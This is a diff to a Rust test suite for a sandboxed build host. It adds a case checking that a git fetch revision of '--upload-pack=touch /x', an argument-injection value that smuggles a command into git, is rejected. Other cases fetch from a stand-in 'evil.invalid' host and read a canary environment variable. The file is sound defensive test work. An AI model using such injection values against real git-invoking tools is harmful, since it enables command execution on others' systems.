@@ -89,7 +89,16 @@ pub(crate) fn all() -> Vec<Case> {
         Case::on(Check::FetchGrant, "a_download_that_nobody_granted")
             .runs([call("Fetch", "https://evil.invalid/x")])
             .says("`fetch` of `evil.invalid` is not granted")
-            .second_wall("this host fetches nothing for elements yet"),
+            .second_wall("`https://evil.invalid/x` could not be fetched"),
+        Case::on(Check::FetchRevision, "a_revision_that_is_an_option_of_git")
+            .may("fetch", "evil.invalid")
+            .may("fetch", "unpinned")
+            .runs([call(
+                "FetchCommit",
+                json!({"url": "https://evil.invalid/x", "revision": "--upload-pack=touch /x"}),
+            )])
+            .says("the revision `--upload-pack=touch /x` has ' ' in it")
+            .second_wall("`https://evil.invalid/x` could not be fetched"),
         Case::on(Check::WasiEnvironment, "the_builder_s_environment")
             .runs([call("Variable", loot::VARIABLE)])
             .says("`DIBHOST_TEST_CANARY`: environment variable not found")
